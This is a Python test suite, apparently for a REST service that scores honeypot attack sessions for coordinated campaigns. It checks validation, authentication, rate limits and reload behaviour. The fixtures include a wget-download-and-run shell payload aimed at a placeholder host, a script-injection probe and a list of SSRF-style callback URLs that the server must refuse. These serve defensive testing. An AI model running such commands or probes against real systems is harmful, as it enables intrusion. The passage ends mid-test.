#!/usr/bin/env python3
"""The REST contract, asked of the real server: what the two known clients send, and what they expect to get."""
import contextlib
import gzip
import http.server
import json
import os
import re
import signal
import socket
import sqlite3
import subprocess
import threading
import unittest
import urllib.error
import urllib.request

from serving import DEADLINE_S, Server, eventually, new_folder, read_all, session, sessions
from support import COORD, SOURCE, background, environment, ndjson

FIVE = ["analysis_id", "status", "coordination_confidence", "evidence", "enrichment_applied"]
UUID4 = r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}"


class Serving(unittest.TestCase):
    maxDiff = 4000
    settings = {}

    @classmethod
    def setUpClass(cls):
        cls.server = Server(new_folder(cls), **cls.settings)
        cls.addClassCleanup(cls.server.stop)

    def error(self, answer, status, detail=None):
        self.assertEqual(status, answer.status, answer)
        self.assertEqual("application/json", answer.headers["Content-Type"])
        body = answer.json()
        self.assertEqual({"detail", "error_code", "timestamp"}, set(body) - {"errors_total"}, answer)
        if detail is not None:
            self.assertEqual(detail, body["detail"])
        return body

    def fault(self, answer, kind, loc, msg=None):
        body = self.error(answer, 422)
        self.assertEqual("VALIDATION_ERROR", body["error_code"])
        found = [f for f in body["detail"] if f["type"] == kind and f["loc"] == loc]
        self.assertTrue(found, answer)
        if msg is not None:
            self.assertEqual(msg, found[0]["msg"])


class Contract(Serving):
    # submissions

    def test_submission_is_answered_with_five_fields(self):
        answer = self.server.post("/analyze/coordination", {"attack_sessions": sessions()})
        self.assertEqual(200, answer.status, answer)
        self.assertEqual("application/json", answer.headers["Content-Type"])
        body = json.loads(answer.body, object_pairs_hook=list)
        self.assertEqual(FIVE, [k for k, _ in body])
        self.assertEqual(["queued", None, None, False], [v for _, v in body[1:]])
        self.assertRegex(body[0][1], f"^{UUID4}$")
        again = self.server.submit({"attack_sessions": sessions()})
        self.assertNotEqual(body[0][1], again)

    def test_result_is_as_the_clients_read_it(self):
        result = self.server.finished(self.server.submit({"attack_sessions": sessions(30)}))
        self.assertEqual("completed", result["status"], result)
        self.assertEqual(FIVE, list(result)[:5])
        self.assertTrue(0 <= result["coordination_confidence"] <= 1)
        for key, value in result["evidence"].items():  # as the published example prints it
            self.assertTrue(0 <= value <= 1)
            self.assertTrue(f"{key}: {value:.2f}")
        self.assertIs(False, result["enrichment_applied"])

    def test_both_ways_to_show_a_key_and_a_slash_too_many(self):
        for headers in ({"X-API-Key": self.server.key}, {"Authorization": "bearer " + self.server.key}):
            answer = self.server.post("//analyze/coordination", {"attack_sessions": sessions()}, key=None,
                                      headers=headers)
            self.assertEqual(200, answer.status, answer)

    def test_bulk_as_bare_arrays_and_as_an_object(self):
        batches = [sessions(1), sessions(3)]
        for body in (batches, {"session_batches": batches, "analysis_depth": "minimal", "callback_url": None}):
            answer = self.server.post("/analyze/bulk", body)
            self.assertEqual(200, answer.status, answer)
            body = answer.json()
            self.assertEqual(["analysis_ids", "status", "batch_count"], list(body))
            self.assertEqual(("queued", 2, 2), (body["status"], body["batch_count"], len(set(body["analysis_ids"]))))
            for analysis in body["analysis_ids"]:
                self.assertEqual("completed", self.server.finished(analysis)["status"])

    def test_a_terminal_answer_never_changes(self):
        analysis = self.server.submit()
        first = self.server.finished(analysis)
        self.assertEqual(first, self.server.get("/analyze/" + analysis).json())

    def test_sessions_without_address_or_time_are_accepted_and_counted(self):
        analysis = self.server.submit({"attack_sessions": sessions(3) + [{"note": "nothing"}, {}],
                                       "analysis_depth": "minimal"})
        result = self.server.finished(analysis)
        self.assertEqual("completed", result["status"], result)
        self.assertEqual(2, result["unusable_sessions"])
        self.assertEqual(3, result["session_count"])

    def test_sessions_of_any_shape_in_one_request(self):
        mixed = background(3) + sessions(3)
        analysis = self.server.submit({"attack_sessions": mixed, "analysis_depth": "minimal"})
        result = self.server.finished(analysis)
        self.assertEqual((6, 0), (result["session_count"], result["unusable_sessions"]), result)

    def test_sessions_come_back_byte_for_byte(self):
        body = b'{"attack_sessions":[{"source_ip":"198.51.100.1","n":1.50,"big":123456789012345678901234567890.0},' \
               b'\n {"a" :\r\n "b\\n"}],"analysis_depth":"minimal"}'
        analysis = self.server.submit(body, headers={"Content-Type": "application/json"})
        self.assertEqual(b'{"source_ip":"198.51.100.1","n":1.50,"big":123456789012345678901234567890.0}\n'
                         b'{"a" :   "b\\n"}\n', self.server.get(f"/analyze/{analysis}/sessions").body)

    def test_options(self):
        analysis = self.server.submit({"attack_sessions": sessions(20), "analysis_depth": "minimal", "label": "mine",
                                       "group": True, "selected_by": "payload"})
        self.server.finished(analysis)
        document = self.server.get(f"/analyze/{analysis}/export?format=json").json()
        configuration = json.dumps(document["provenance"]["configuration"])
        self.assertIn("payload", configuration)
        listed = self.server.get("/analyze?label=mine").json()["analyses"]
        self.assertEqual([analysis], [a["analysis_id"] for a in listed])

    # errors

    def test_who_has_no_key_learns_nothing_of_validation(self):
        for path, body in (("/analyze/coordination", b"{"), ("/analyze/bulk", b"7"), ("/ingest", b"")):
            answer = self.server.post(path, body, key=None, headers={"Content-Type": "application/json"})
            self.error(answer, 401, "Missing API key")
            self.assertEqual("Bearer", answer.headers["WWW-Authenticate"])
            self.error(self.server.post(path, body, key="coord_wrong"), 401, "Invalid API key")
        self.error(self.server.get("/analyze/coordination", key=None), 401, "Missing API key")
        self.error(self.server.get("/analyze/x", key="nonsense"), 401, "Invalid API key")

    def test_paths_and_methods(self):
        self.error(self.server.get("/nothing"), 404, "Not Found")
        self.error(self.server.get("/analyze/a/b/c/d"), 404, "Not Found")
        self.error(self.server.get("/analyze/coordination"), 404, "Analysis not found")
        self.error(self.server.get("/analyze/00000000-0000-4000-8000-000000000000"), 404, "Analysis not found")
        self.error(self.server.get("/campaigns/nothing"), 404, "Campaign not found")
        for method, path, allow in (("PUT", "/analyze/coordination", "GET, HEAD, POST, DELETE"),
                                    ("POST", "/health", "GET, HEAD"), ("BREW", "/ingest", "POST"),
                                    ("OPTIONS", "/analyze", "GET, HEAD")):
            answer = self.server.request(method, path)
            self.error(answer, 405, "Method Not Allowed")
            self.assertEqual(allow, answer.headers["Allow"])

    def test_head_answers_where_get_does(self):
        analysis = self.server.submit()
        self.server.finished(analysis)
        for path in ("/health", "/analyze", "/analyze/" + analysis, "/openapi.json", "/docs"):
            get, head = self.server.get(path), self.server.request("HEAD", path)
            self.assertEqual((200, b""), (head.status, head.body), path)
            self.assertEqual(get.headers["Content-Length"], head.headers["Content-Length"], path)

    def test_bodies_that_are_refused(self):
        def post(body, path="/analyze/coordination"):
            return self.server.post(path, body, headers={"Content-Type": "application/json"})
        self.fault(post(b""), "missing", ["body"], "Field required")
        self.fault(post(b"{"), "json_invalid", ["body", 1], "JSON decode error")
        self.fault(post(b'{"attack_sessions":[{"source_ip":"1.2.3.4",}]}'), "json_invalid", ["body", 43], "JSON decode error")
        self.fault(post(b"[]"), "model_attributes_type", ["body"])
        self.fault(post(b"{}"), "missing", ["body", "attack_sessions"], "Field required")
        self.fault(post(b'{"attack_sessions":[]}'), "value_error", ["body", "attack_sessions"],
                   "Value error, At least 2 attack sessions required for coordination analysis")
        self.fault(post(json.dumps({"attack_sessions": [session(), 7]})), "model_type", ["body", "attack_sessions", 1])
        self.fault(post(json.dumps([[session(target_port=70000)]]), "/analyze/bulk"), "less_than_equal",
                   ["body", 0, 0, "target_port"])
        self.fault(post(json.dumps({"session_batches": [[session()], [session(source_ip="x")]]}), "/analyze/bulk"),
                   "value_error", ["body", "session_batches", 1, 0, "source_ip"])
        for url in ("http://127.0.0.1/x", "https://10.0.0.1/", "https://[::1]/", "https://u:p@example.com/",
                    "https://example.com:22/", "ftp://example.com/", "https://0x7f000001/", "gopher"):
            answer = post(json.dumps({"attack_sessions": sessions(), "callback_url": url}))
            self.assertEqual(["body", "callback_url"], self.error(answer, 422)["detail"][0]["loc"], url)

    def test_media_types(self):
        body = json.dumps({"attack_sessions": sessions()})
        for kind in ("application/json", "application/json; charset=utf-8", None):
            headers = {"Content-Type": kind} if kind else {}
            self.assertEqual(200, self.server.post("/analyze/coordination", body, headers=headers).status)
        for headers in ({"Content-Type": "text/plain"}, {"Content-Type": "application/x-www-form-urlencoded"},
                        {"Content-Encoding": "br"}):
            self.error(self.server.post("/analyze/coordination", body, headers=headers), 415)

    def test_a_payload_is_never_given_back(self):
        evil = "<script>alert(1)</script>" * 500
        answer = self.server.post("/analyze/coordination",
                                  {"attack_sessions": [session(payload=evil), session(payload="")],
                                   "analysis_depth": evil, "callback_url": evil})
        self.assertEqual(422, answer.status)
        self.assertNotIn(b"alert(1)</script><script>alert", answer.body)
        self.assertNotIn(b"<script>", answer.body)
        self.assertLess(len(answer.body), 2000)

    # headers

    def test_request_ids_go_in_and_out(self):
        self.assertEqual("mine-1", self.server.get("/health", headers={"X-Request-Id": "mine-1"}).headers["X-Request-Id"])
        made = self.server.get("/health", headers={"X-Request-Id": "not this\u00e9"}).headers["X-Request-Id"]
        self.assertRegex(made, "^[0-9a-f]{32}$")

    def test_rate_headers(self):
        answer = self.server.get("/analyze")
        self.assertRegex(answer.headers["RateLimit"], r'^"default";r=\d+;t=\d+$')
        self.assertRegex(answer.headers["RateLimit-Policy"], r'^"default";q=100000000;w=60$')
        self.assertEqual("100000000", answer.headers["X-RateLimit-Limit"])
        self.assertLess(1.7e9, int(answer.headers["X-RateLimit-Reset"]))
        self.assertIsNone(self.server.get("/health").headers["RateLimit"])

    def test_etag_of_a_finished_result(self):
        analysis = self.server.submit()
        self.server.finished(analysis)
        path = "/analyze/" + analysis
        plain = self.server.get(path)
        self.assertIsNotNone(plain.headers["ETag"])
        same = self.server.get(path, headers={"If-None-Match": plain.headers["ETag"]})
        self.assertEqual((304, b"", plain.headers["ETag"]), (same.status, same.body, same.headers["ETag"]))
        self.assertEqual(200, self.server.get(path, headers={"If-None-Match": '"other"'}).status)
        coded = self.server.get(path, headers={"Accept-Encoding": "gzip"})
        self.assertEqual("gzip", coded.headers["Content-Encoding"])
        self.assertNotEqual(plain.headers["ETag"], coded.headers["ETag"])
        self.assertEqual(plain.body, gzip.decompress(coded.body))
        zstd = self.server.get(path, headers={"Accept-Encoding": "zstd"})
        self.assertEqual("zstd", zstd.headers["Content-Encoding"])
        self.assertEqual(plain.body, subprocess.run(["zstd", "-dcq"], input=zstd.body, capture_output=True,
                                                    check=True).stdout)

    def test_cors_is_off(self):
        headers = {"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST"}
        answer = self.server.request("OPTIONS", "/analyze/coordination", key=None, headers=headers)
        self.assertEqual(405, answer.status)
        self.assertFalse([h for h in answer.headers if h.startswith("Access-Control")])

    def test_coded_bodies(self):
        body = json.dumps({"attack_sessions": sessions(50), "analysis_depth": "minimal"}).encode()
        zstd = subprocess.run(["zstd", "-cq"], input=body, capture_output=True, check=True).stdout
        for coding, data in (("gzip", gzip.compress(body)), ("zstd", zstd), ("identity", body)):
            headers = {"Content-Encoding": coding, "Content-Type": "application/json"}
            analysis = self.server.submit(data, headers=headers)
            self.assertEqual(50, self.server.finished(analysis)["session_count"])
            if coding != "identity":
                self.error(self.server.post("/analyze/coordination", data[:-5], headers=headers), 400)
                self.error(self.server.post("/analyze/coordination", b"no" + data, headers=headers), 400)

    # idempotency

    def test_the_same_key_gives_the_same_answer(self):
        body = {"attack_sessions": sessions()}
        first = self.server.post("/analyze/coordination", body, headers={"Idempotency-Key": '"one"'})
        again = self.server.post("/analyze/coordination", body, headers={"Idempotency-Key": "one"})
        self.assertEqual((200, first.body), (again.status, again.body))
        self.assertEqual((None, "true"), (first.headers["Idempotency-Replayed"], again.headers["Idempotency-Replayed"]))
        self.error(self.server.post("/analyze/coordination", {"attack_sessions": sessions(5)},
                                    headers={"Idempotency-Key": "one"}), 422)
        self.error(self.server.post("/analyze/bulk", [sessions()], headers={"Idempotency-Key": "one"}), 422)
        self.error(self.server.post("/analyze/coordination", body, headers={"Idempotency-Key": '""'}), 422)
        other = self.server.post("/analyze/coordination?label=x", body, headers={"Idempotency-Key": "one"})
        self.error(other, 422)  # options are part of the request
        log = ndjson(background(3))
        first = self.server.post("/ingest", log, headers={"Idempotency-Key": "log"})
        again = self.server.post("/ingest", log, headers={"Idempotency-Key": "log"})
        self.assertEqual((200, first.body), (again.status, again.body))

    def test_a_key_that_is_being_handled(self):
        """While the first request's body is still coming, a second with its key is told to come again."""
        body = json.dumps({"attack_sessions": sessions()}).encode()
        head = (f"POST /analyze/coordination HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.server.key}\r\n"
                f"Idempotency-Key: two\r\nContent-Length: {len(body)}\r\nExpect: 100-continue\r\n"
                "Connection: close\r\n\r\n").encode()
        with self.server.connect() as s:
            s.sendall(head)
            self.assertIn(b" 100 Continue", s.recv(1000))
            answer = self.server.post("/analyze/bulk", b"[]", headers={"Idempotency-Key": "two"})
            self.error(answer, 409)
            self.assertEqual("1", answer.headers["Retry-After"])
            s.sendall(body)
            self.assertIn(b" 200 OK", read_all(s))

    # lists, deletion, other forms

    def test_list_filters_and_pages(self):
        ids = [self.server.submit({"attack_sessions": sessions(), "label": "paged", "analysis_depth": "minimal"})
               for _ in range(5)]
        for analysis in ids:
            self.server.finished(analysis)
        seen, cursor = [], ""
        while cursor is not None:
            page = self.server.get("/analyze?label=paged&limit=2" + (f"&cursor={cursor}" if cursor else "")).json()
            seen += [a["analysis_id"] for a in page["analyses"]]
            cursor = page["next_cursor"]
        self.assertEqual(ids[::-1], seen)
        count = lambda query: len(self.server.get("/analyze?label=paged&" + query).json()["analyses"])
        self.assertEqual((5, 0, 5, 0), (count("status=completed"), count("status=queued"),
                                        count("from=2026-01-01T00:00:00Z"), count("to=2026-01-01")))
        for bad in ("limit=0", "limit=201", "limit=x", "status=done", "from=x", "cursor=x", "cursor=1_"):
            self.assertEqual("query", self.error(self.server.get("/analyze?" + bad), 422)["detail"][0]["loc"][0])

    def test_the_list_counts_what_was_analysed(self):
        for body, more, label, count in ((ndjson(background(30)), {"path": "/ingest?label=counted-log&depth=minimal"}, "counted-log", 30),
                                         ({"attack_sessions": sessions(3) + [{"note": "no address"}], "label": "counted",
                                           "analysis_depth": "minimal"}, {}, "counted", 3)):
            result = self.server.finished(self.server.submit(body, **more))
            row, = self.server.get("/analyze?label=" + label).json()["analyses"]
            self.assertEqual((count, count), (result["session_count"], row["session_count"]))

    def test_key_factors_speak_for_or_against(self):
        planted = [{"source_ip": f"198.51.{i}.7", "timestamp": f"2025-07-{day:02d}T{hour:02d}:00:{2 * i:02d}Z", "protocol": "ssh",
                    "payload": f"cd /tmp; wget http://203.0.113.9/{hour}x.sh; sh {hour}x.sh"}
                   for day in range(1, 5) for hour in range(0, 24, 4) for i in range(8)]
        others = [{"source_ip": f"192.0.{i}.{i}", "timestamp": f"2025-07-{i % 4 + 1:02d}T{i % 24:02d}:{i * 7 % 60:02d}:11Z",
                   "protocol": "ssh", "payload": f"id {i}"} for i in range(1, 200)]
        result = self.server.finished(self.server.submit({"attack_sessions": planted + others}))
        self.assertIn(result["verdict"], ("single_actor_multiple_sources", "coordinated_campaign"), result["reasoning"])
        factors = result["key_factors"]
        self.assertTrue(any(f.startswith("for: Sharing an exclusive artefact: ") for f in factors), factors)
        for factor in factors:
            self.assertRegex(factor, "^(for|against): [A-Z]")

    def test_deletion(self):
        analysis = self.server.submit()
        self.server.finished(analysis)
        self.assertEqual(200, self.server.get("/analyze/" + analysis).status)
        answer = self.server.request("DELETE", "/analyze/" + analysis)
        self.assertEqual((200, "deleted"), (answer.status, answer.json()["status"]))
        self.error(self.server.get("/analyze/" + analysis), 404, "Analysis not found")
        self.error(self.server.request("DELETE", "/analyze/" + analysis), 404)

    def test_other_forms(self):
        log = ndjson(background(30))
        analysis = self.server.submit(log, path="/ingest?depth=minimal")
        self.server.finished(analysis)
        report = self.server.get(f"/analyze/{analysis}/report")
        self.assertEqual((200, "text/html; charset=utf-8"), (report.status, report.headers["Content-Type"]))
        self.assertIn(b"<!doctype html>", report.body)
        self.assertIn(analysis.encode(), report.body)
        csv = self.server.get(f"/analyze/{analysis}/export?format=csv")
        self.assertTrue(csv.body.startswith(b"campaign,"), csv)
        stix = self.server.get(f"/analyze/{analysis}/export?format=stix")
        self.assertEqual("bundle", stix.json()["type"])
        self.assertEqual(analysis, self.server.get(f"/analyze/{analysis}/export?format=json").json()["analysis_id"])
        self.assertEqual(log, self.server.get(f"/analyze/{analysis}/sessions").body)
        self.error(self.server.get(f"/analyze/{analysis}/export?format=pdf"), 422)
        self.error(self.server.get(f"/analyze/{analysis}/export"), 422)

    def test_ingest(self):
        log = ndjson(background(20))
        zstd = subprocess.run(["zstd", "-cq"], input=log, capture_output=True, check=True).stdout
        for data, headers in ((log, {}), (gzip.compress(log), {}), (gzip.compress(log), {"Content-Encoding": "gzip"}),
                              (zstd, {"Content-Encoding": "zstd"}), (zstd, {})):
            result = self.server.finished(self.server.submit(data, path="/ingest?depth=minimal&format=cowrie",
                                                             headers=headers))
            self.assertEqual(("completed", 20), (result["status"], result["session_count"]), result)
        self.error(self.server.post("/ingest", b""), 422)
        self.error(self.server.post("/ingest?format=none", log), 422)
        self.error(self.server.post("/ingest?year=1066", log), 422)
        self.error(self.server.post("/ingest?depth=deepest", log), 422)
        self.error(self.server.post("/ingest", gzip.compress(log)[:-9]), 400)

    def test_a_log_without_sessions_says_so(self):
        result = self.server.finished(self.server.submit(b"nothing that anybody knows\n" * 3, path="/ingest"))
        self.assertEqual(("insufficient_evidence", 0), (result["verdict"], result["session_count"]), result)
        document = self.server.get(f"/analyze/{result['analysis_id']}/export?format=json").json()
        self.assertEqual(3, document["input"]["refused"])

    # operation

    def test_health(self):
        for path in ("/health", "/health/"):
            body = self.server.get(path, key=None).json()
            self.assertEqual({"status", "service", "version", "timestamp"}, set(body))
            self.assertEqual("healthy", body["status"])
        ready = self.server.get("/health/ready", key=None).json()
        self.assertEqual("ready", ready["status"])
        self.assertEqual({"database": "healthy", "redis": "healthy", "elasticsearch": "disabled",
                          "llm_service": "disabled"}, ready["dependencies"])
        alive = self.server.get("/health/live", key=None).json()
        self.assertEqual(("alive", int), (alive["status"], type(alive["uptime"])))

    def test_metrics(self):
        self.server.get("/nothing")
        answer = self.server.get("/metrics", key=None)
        self.assertEqual("text/plain; version=0.0.4; charset=utf-8", answer.headers["Content-Type"])
        self.assertRegex(answer.body.decode(), r'coordination_http_request_duration_seconds_count\{route="other",status="4xx"\} [1-9]')
        openmetrics = self.server.get("/metrics", key=None, headers={"Accept": "application/openmetrics-text"})
        self.assertIn("openmetrics-text", openmetrics.headers["Content-Type"])
        self.assertTrue(openmetrics.body.endswith(b"# EOF\n"))

    def test_docs_need_nothing_from_elsewhere(self):
        for path in ("/docs", "/redoc"):
            page = self.server.get(path, key=None)
            self.assertEqual("text/html; charset=utf-8", page.headers["Content-Type"])
            self.assertIn("default-src 'none'", page.headers["Content-Security-Policy"])
            self.assertNotRegex(page.body.decode(), r'(src|href)="?(https?:)?//')
        self.assertEqual("3.1.0", self.server.get("/openapi.json", key=None).json()["openapi"])

    def test_no_secret_and_no_payload_in_the_log(self):
        self.server.submit({"attack_sessions": [session(payload="s3cret-payload"), session(1)]})
        self.server.get("/analyze", key="coord_not-a-key-at-all")
        log = self.server.errors()
        self.assertNotIn(self.server.key, log)
        self.assertNotIn("s3cret-payload", log)
        self.assertNotIn("coord_not-a-key", log)


class SmallLimits(Serving):
    settings = {"COORD_MAX_SESSIONS": "10", "COORD_MAX_BATCHES": "2", "COORD_MAX_BODY": "64KiB",
                "COORD_MAX_INGEST": "100KiB", "COORD_MAX_JSON_DEPTH": "8", "COORD_RATE_PER_MINUTE": "60",
                "COORD_CORS_ORIGINS": "http://localhost:3000, http://localhost:8080", "COORD_METRICS_PUBLIC": "no"}

    def setUp(self):
        # a bucket of its own for each test
        result = subprocess.run([COORD, "keys", "create", self.id().replace(".", "-")[-60:], "--rate", "1000000",
                                 "--scopes", "submit,read"], env=environment(
            COORD_STATE_DIR=os.path.join(self.server.folder, "state")), capture_output=True, check=True,
            timeout=DEADLINE_S)
        self.key = result.stdout.decode().strip()
        self.server.process.send_signal(signal.SIGHUP)
        eventually(lambda: self.server.get("/analyze", key=self.key).status == 200, "the new key is known")

    def post(self, body, path="/analyze/coordination", **more):
        return self.server.post(path, body, key=self.key, **more)

    def test_counts(self):
        self.assertEqual(200, self.post({"attack_sessions": sessions(10)}).status)
        self.fault(self.post({"attack_sessions": sessions(11)}), "value_error", ["body", "attack_sessions"],
                   "Value error, Maximum 10 sessions allowed")
        self.fault(self.post([sessions(1)] * 3, "/analyze/bulk"), "value_error", ["body"],
                   "Value error, Maximum 2 batches allowed")

    def test_bytes(self):
        large = b'{"attack_sessions":[' + b" " * 70000 + b"]}"
        self.error(self.post(large), 413)
        self.error(self.post(gzip.compress(large), headers={"Content-Encoding": "gzip"}), 413)
        log = b"x" * 1000 + b"\n"
        self.error(self.post(log * 200, "/ingest"), 413)
        self.error(self.post(gzip.compress(log * 200), "/ingest"), 413)

    def test_depth(self):
        nested = "[" * 30 + "]" * 30
        self.fault(self.post('{"attack_sessions":[{"a":' + nested + "},{}]}"), "json_invalid", ["body", 30])

    def test_rate(self):
        limited = [self.server.get("/analyze") for _ in range(130)]
        refused = [a for a in limited if a.status == 429]
        self.assertTrue(refused)
        self.error(refused[-1], 429, "Rate limit exceeded")
        self.assertGreaterEqual(int(refused[-1].headers["Retry-After"]), 1)
        self.assertEqual("0", refused[-1].headers["X-RateLimit-Remaining"])
        self.assertEqual(200, self.server.get("/health").status)

    def test_cors_of_listed_origins(self):
        ask = {"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST"}
        answer = self.server.request("OPTIONS", "/analyze/coordination", key=None, headers=ask)
        self.assertEqual((200, "http://localhost:3000"), (answer.status, answer.headers["Access-Control-Allow-Origin"]))
        self.assertIn("POST", answer.headers["Access-Control-Allow-Methods"])
        real = self.server.get("/analyze", key=self.key, headers={"Origin": "http://localhost:8080"})
        self.assertEqual("http://localhost:8080", real.headers["Access-Control-Allow-Origin"])
        other = self.server.get("/analyze", key=self.key, headers={"Origin": "http://evil.example"})
        self.assertIsNone(other.headers["Access-Control-Allow-Origin"])

    def test_metrics_may_need_a_key(self):
        self.error(self.server.get("/metrics", key=None), 401)
        self.assertEqual(200, self.server.get("/metrics", key=self.key).status)


class Keys(Serving):
    def new_key(self, name, *options):
        result = subprocess.run([COORD, "keys", "create", name, *options], env=environment(
            COORD_STATE_DIR=os.path.join(self.server.folder, "state")), capture_output=True, check=True,
            timeout=DEADLINE_S)
        self.server.process.send_signal(signal.SIGHUP)
        return result.stdout.decode().strip()

    def test_everybody_sees_their_own(self):
        mine, yours = self.new_key("mine", "--scopes", "submit,read"), self.new_key("yours", "--scopes", "read")
        eventually(lambda: self.server.get("/analyze", key=yours).status == 200, "the keys are known")
        analysis = self.server.submit(key=mine)
        self.server.finished(analysis, key=mine)
        self.assertEqual(200, self.server.get("/analyze/" + analysis, key=mine).status)
        for path in ("", "/events", "/report", "/sessions", "/export?format=json"):
            self.error(self.server.get(f"/analyze/{analysis}{path}", key=yours), 404, "Analysis not found")
        self.error(self.server.request("DELETE", "/analyze/" + analysis, key=yours), 403)
        self.assertEqual([], self.server.get("/analyze", key=yours).json()["analyses"])
        self.assertEqual(200, self.server.get("/analyze/" + analysis).status)  # the first key sees all
        self.error(self.server.post("/analyze/coordination", b"{", key=yours), 403)

    def test_a_revoked_key_is_out(self):
        key = self.new_key("gone")
        eventually(lambda: self.server.get("/analyze", key=key).status == 200, "the key is known")
        subprocess.run([COORD, "keys", "revoke", "gone"], check=True, capture_output=True, timeout=DEADLINE_S,
                       env=environment(COORD_STATE_DIR=os.path.join(self.server.folder, "state")))
        self.server.process.send_signal(signal.SIGHUP)
        eventually(lambda: self.server.get("/analyze", key=key).status == 401, "the key is forgotten")

    def test_quota(self):
        key = self.new_key("quota", "--scopes", "submit,read", "--quota", "10")
        eventually(lambda: self.server.get("/analyze", key=key).status == 200, "the key is known")
        body = {"attack_sessions": sessions(6), "analysis_depth": "minimal"}
        self.assertEqual(200, self.server.post("/analyze/coordination", body, key=key).status)
        answer = self.server.post("/analyze/coordination", body, key=key)
        self.error(answer, 429)
        self.assertGreaterEqual(int(answer.headers["Retry-After"]), 1)


class Life(unittest.TestCase):
    def setUp(self):
        self.folder = new_folder(self.__class__)

    def test_first_key_is_shown_once_and_results_survive(self):
        first = Server(self.folder)
        self.assertIn(b"shown this once", first.greeting)
        key, analysis = first.key, first.submit()
        result = first.finished(analysis)
        self.assertEqual(0, first.stop())
        again = Server(self.folder)
        self.addCleanup(again.stop)
        self.assertIsNone(again.key)
        self.assertEqual(result, again.get("/analyze/" + analysis, key=key).json())

    def test_an_accepted_job_survives_the_kill(self):
        server = Server(self.folder, COORD_WORKERS="0")
        key, ids = server.key, [server.submit() for _ in range(5)]
        self.assertEqual("queued", server.get("/analyze/" + ids[0]).json()["status"])
        server.stop(signal.SIGKILL)
        again = Server(self.folder)
        self.addCleanup(again.stop)
        for analysis in ids:
            self.assertEqual("completed", again.finished(analysis, key=key)["status"])

    def test_cancelled_while_queued(self):
        server = Server(self.folder, COORD_WORKERS="0")
        self.addCleanup(server.stop)
        analysis = server.submit()
        self.assertEqual("cancelled", server.request("DELETE", "/analyze/" + analysis).json()["status"])
        answer = server.get("/analyze/" + analysis).json()
        self.assertEqual(("failed", None, None), (answer["status"], answer["coordination_confidence"], answer["evidence"]))
        self.assertIn("cancelled", answer["error"])

    def test_too_many_wait(self):
        server = Server(self.folder, COORD_WORKERS="0", COORD_QUEUE_MOST="3")
        self.addCleanup(server.stop)
        for _ in range(3):
            server.submit()
        answer = server.post("/analyze/coordination", {"attack_sessions": sessions()})
        self.assertEqual(503, answer.status)
        self.assertGreaterEqual(int(answer.headers["Retry-After"]), 1)

    def test_wide_addresses_are_refused_without_keys_or_tls(self):
        for extra in ({}, {"COORD_OPEN": "yes"}, {"COORD_API_KEYS": "a-key-of-forty-characters-which-is-enough-x"}):
            with self.assertRaisesRegex(AssertionError, "refused"):
                Server(self.folder, COORD_LISTEN="0.0.0.0:0", **extra)
        server = Server(self.folder, COORD_LISTEN="0.0.0.0:0", COORD_LISTEN_FORCE="yes")
        server.stop()

    def test_bad_settings_are_named(self):
        for name, value in (("COORD_LISTEN", "nowhere"), ("COORD_LISTEN", "127.0.0.1:x"),
                            ("COORD_CALLBACK_PORTS", "http"), ("COORD_MAX_SESSIONS", "many")):
            with self.assertRaisesRegex(AssertionError, name):
                Server(self.folder, **{name: value})

    def test_sighup_reads_keys_of_a_file_again(self):
        path = os.path.join(self.folder, "keys")
        with open(path, "w", encoding="ascii") as f:
            f.write("the-first-key-of-the-file")
        server = Server(self.folder, COORD_API_KEYS_FILE=path)
        self.addCleanup(server.stop)
        status = lambda key: server.get("/analyze", key=key).status
        self.assertEqual((200, 401), (status("the-first-key-of-the-file"), status("another-key-of-the-file")))
        with open(path, "w", encoding="ascii") as f:
            f.write("another-key-of-the-file,a-third-key-of-the-file")
        server.process.send_signal(signal.SIGHUP)
        eventually(lambda: status("another-key-of-the-file") == 200, "the new key opens")
        self.assertEqual((401, 200), (status("the-first-key-of-the-file"), status("a-third-key-of-the-file")))

    def write(self, path, *lines):
        with open(path, "w", encoding="utf-8") as f:
            f.write("\n".join(lines) + "\n")

    def test_sighup_reads_settings_of_a_file_again(self):
        path = os.path.join(self.folder, "coord.env")
        self.write(path, "# limits", "COORD_MAX_SESSIONS=5", "COORD_LEASE=30s")
        server = Server(self.folder, COORD_CONFIG_FILE=path)
        self.addCleanup(server.stop)
        status = lambda n: server.post("/analyze/coordination", {"attack_sessions": sessions(n), "analysis_depth": "minimal"}).status
        self.assertEqual((200, 422), (status(5), status(6)))
        workers = self.workers_of(server)
        self.write(path, "COORD_MAX_SESSIONS=6", "COORD_CORS_ORIGINS=http://localhost:3000", "COORD_LEASE=31s",
                   "COORD_CALLBACK_SECRET=whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "COORD_KEEP_EVENTS=1h")
        server.process.send_signal(signal.SIGHUP)
        eventually(lambda: status(6) == 200, "the new limit is in force")
        self.assertEqual(422, status(7))
        answer = server.get("/analyze", headers={"Origin": "http://localhost:3000"})
        self.assertEqual("http://localhost:3000", answer.headers["Access-Control-Allow-Origin"])
        told = eventually(lambda: [json.loads(line) for line in server.errors().splitlines() if "settings read again" in line], "it is told")
        self.assertEqual({"COORD_MAX_SESSIONS", "COORD_CORS_ORIGINS", "COORD_CALLBACK_SECRET", "COORD_KEEP_EVENTS"},
                         set(told[0]["changed"].split()))
        self.assertEqual("COORD_LEASE", told[0]["at_next_start"])
        self.assertNotIn("MfKQ9r8GKYqr", server.errors())
        eventually(lambda: self.workers_of(server) and not workers & self.workers_of(server), "the worker is another one")
        server.finished(server.submit())
        self.assertNotIn("worker died", server.errors())

    def test_a_reload_that_is_refused_changes_nothing(self):
        path = os.path.join(self.folder, "coord.env")
        self.write(path, "COORD_MAX_SESSIONS=5")
        server = Server(self.folder, COORD_CONFIG_FILE=path)
        self.addCleanup(server.stop)
        status = lambda n: server.post("/analyze/coordination", {"attack_sessions": sessions(n)}).status
        for i, (line, told) in enumerate((("COORD_MAX_BATCHES=some", "coord.env:2: COORD_MAX_BATCHES"), ("COORD_NOTHING=1", "coord.env:2: there is no setting"),
                                          ("COORD_CALLBACK_PORTS=http", "COORD_CALLBACK_PORTS"), ("COORD_API_KEYS=short", "COORD_API_KEYS"),
                                          ("COORD_CALLBACK_SECRET=geheim", "COORD_CALLBACK_SECRET"))):
            self.write(path, "COORD_MAX_SESSIONS=6", line)
            server.process.send_signal(signal.SIGHUP)
